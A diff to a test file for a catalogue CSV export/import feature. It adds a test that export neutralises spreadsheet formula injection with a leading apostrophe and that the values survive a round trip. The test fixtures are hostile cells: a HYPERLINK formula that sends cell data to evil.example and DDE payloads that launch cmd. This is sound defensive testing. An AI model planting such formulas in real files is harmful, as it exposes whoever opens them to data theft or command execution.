@@ -1,5 +1,6 @@
 // The catalogue CSV: export and template, the dry run's row-level errors, import jobs applied all or
 // nothing, and a job whose worker died being finished by another.
+import { parse } from 'csv-parse/sync';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import {
   ImportJobDataSchema,
@@ -10,7 +11,7 @@ import { CATALOGUE_CSV_COLUMNS } from '../../../contract/admin/rules.ts';
 import { envelope, ErrorBodySchema } from '../../../contract/catalogue.ts';
 import { createTestApp } from '../../../tests/support/api.ts';
 import { createStaff, type TestStaff } from '../../../tests/support/staff.ts';
-import { csvLine, parseCsv } from './csv.ts';
+import { csvLine, parseCsv } from '../../lib/csv.ts';
 import { createImports } from './import.service.ts';
 
 type TestApp = Awaited<ReturnType<typeof createTestApp>>;
@@ -169,6 +170,51 @@ describe('a round trip', () => {
     );
     expect(stored!.description).toBe(`हाथ से बना सागौन, "jaali" work, 5' long;\nline two, with a comma`);
     expect(stored!.version).toBe(2);
+  });
+
+  it('writes a cell a spreadsheet would run with an apostrophe first, and reads it back exactly', async () => {
+    const [product] = await t.database.execute(
+      `SELECT p.id FROM products p WHERE EXISTS (SELECT 1 FROM product_variants v WHERE v.product_id = p.id) ORDER BY p.sku DESC LIMIT 1`,
+    );
+    const hostile = {
+      name: '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
+      brand: '+91 98765 43210',
+      material: "-2+3+cmd|' /C calc'!A0",
+      description: "@SUM(1+1)*cmd|' /C calc'!A0",
+      care_instructions: "'=typed as text",
+      warranty: '- 1 year on the frame',
+    };
+    await t.database.execute(
+      `UPDATE products SET name = $2, brand = $3, material = $4, description = $5, care_instructions = $6,
+              warranty = $7 WHERE id = $1`,
+      [product!.id, ...Object.values(hostile)],
+    );
+    await t.database.execute(`DELETE FROM product_features WHERE product_id = $1`, [product!.id]);
+    await t.database.execute(
+      `INSERT INTO product_features (product_id, feature, sort_order) VALUES ($1, $2, 0), ($1, $3, 1)`,
+      [product!.id, '=1+1', 'Solid wood'],
+    );
+    await t.database.execute(
+      `UPDATE product_variants SET name = $2 WHERE product_id = $1 AND sort_order = 0`,
+      [product!.id, '=cmd|"/C calc"!A0'],
+    );
+    const first = await exportCsv();
+    const cells = (parse(first, { bom: true }) as string[][]).flat();
+    const raw = Object.values(hostile).map((value) => value.replace(/^'/, ''));
+    for (const value of [...raw, '=1+1 | Solid wood', '=cmd|"/C calc"!A0'])
+      expect(cells, value).not.toContain(value);
+    for (const value of [...Object.values(hostile), '=1+1 | Solid wood', '=cmd|"/C calc"!A0'])
+      expect(cells, value).toContain(`'${value}`);
+
+    const finished = await importCsv(first);
+    expect(finished.status, finished.error ?? '').toBe('succeeded');
+    const [stored] = await t.database.execute(
+      `SELECT name, brand, material, description, care_instructions, warranty FROM products WHERE id = $1`,
+      [product!.id],
+    );
+    expect(stored).toEqual(hostile);
+    const second = await exportCsv();
+    expect(Buffer.from(second).equals(Buffer.from(first))).toBe(true);
   });
 
   it('reads a file without the byte-order mark, with LF line ends, and with columns in any order', async () => {
